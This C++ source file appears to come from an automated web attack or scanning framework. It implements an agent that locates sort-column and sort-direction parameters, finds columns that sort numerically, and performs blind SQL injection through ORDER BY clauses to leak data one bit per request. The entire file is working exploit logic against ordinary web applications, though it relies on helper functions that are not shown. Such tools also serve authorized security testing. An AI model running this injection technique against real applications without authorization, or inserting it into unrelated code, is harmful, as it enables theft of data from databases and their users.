// sql-order: the column and the direction to sort by. Neither can be a bound value, so both are
// often pasted; the order of the rows then tells one bit a request.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/intrusion.h"
#include "core/attack/session.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostSorted = 3;

// Names of JSON members with a number that appear at least twice: columns of a list of rows.
std::vector<std::string> number_columns(std::string_view json) {
    std::vector<std::string> seen;
    std::vector<std::string> columns;
    for (std::size_t at = json.find("\":"); at != std::string_view::npos;
         at = json.find("\":", at + 1)) {
        if (at + 2 >= json.size() || !ascii::is_digit(json[at + 2])) continue;
        std::size_t const quote = json.rfind('"', at - 1);
        if (at == 0 || quote == std::string_view::npos) continue;
        std::string const name(json.substr(quote + 1, at - quote - 1));
        bool const again = std::find(seen.begin(), seen.end(), name) != seen.end();
        bool const known = std::find(columns.begin(), columns.end(), name) != columns.end();
        if (again && !known) columns.push_back(name);
        seen.push_back(name);
    }
    return columns;
}

bool is_direction(Parameter const& parameter) {
    std::string const sample = ascii::lower(parameter.sample);
    return sample == "asc" || sample == "desc";
}

class SqlOrder final : public Agent {
    void run(Target& target) override {
        for (Spot const& spot : spots_to_try(target, is_order)) {
            DirectEntry entry(target, spot);
            std::vector<std::string> const columns =
                number_columns(entry.send(entry.sample()).body);
            bool const found = is_direction(spot.get()) ? try_direction(entry, spot, columns)
                                                        : try_column(entry, columns);
            if (found) return;
        }
    }

    static bool try_column(DirectEntry& entry, std::vector<std::string> const& more) {
        std::vector<std::string> columns = {entry.sample()};
        for (std::string const& each : more) {
            if (each != entry.sample() && columns.size() < kMostSorted) columns.push_back(each);
        }
        return intrude_by_bits(entry, {order_frames(columns), {}});
    }

    // The direction matters for a column of numbers only, so one is set first.
    static bool try_direction(DirectEntry& entry, Spot const& spot,
                              std::vector<std::string> const& columns) {
        for (Parameter const& other : spot.endpoint->parameters) {
            if (!is_order(other) || is_direction(other)) continue;
            std::string const column = working_column(entry, other, columns);
            entry.set(other.name, column);
            if (intrude_by_bits(entry, {direction_frames(column), {}})) return true;
            // What is not sorted by a number may be looked at less closely.
            entry.set(other.name, other.sample);
            return column != other.sample &&
                   intrude_by_bits(entry, {direction_frames(other.sample), {}});
        }
        return intrude_by_bits(entry, {direction_frames("rowid"), {}});
    }

    // One that the app takes and that sorts differently both ways: the ordinary one, or else the
    // last of the columns first, for an app rarely lets one sort by its ids.
    static std::string working_column(DirectEntry& entry, Parameter const& sort,
                                      std::vector<std::string> const& columns) {
        std::vector<std::string> candidates(columns.rbegin(), columns.rend());
        bool const ordinary_is_number =
            std::find(columns.begin(), columns.end(), sort.sample) != columns.end();
        if (ordinary_is_number) candidates.insert(candidates.begin(), sort.sample);
        for (std::string const& column : candidates) {
            entry.set(sort.name, column);
            Answer const up = entry.send("asc");
            Answer const down = entry.send("desc");
            bool const sorts = fingerprint(up, Detail::Exact) != fingerprint(down, Detail::Exact);
            if (up.status < 400 && sorts) return column;
        }
        return sort.sample;
    }
};

}  // namespace

std::unique_ptr<Agent> make_sql_order() { return std::make_unique<SqlOrder>(); }

}  // namespace parapet::attack
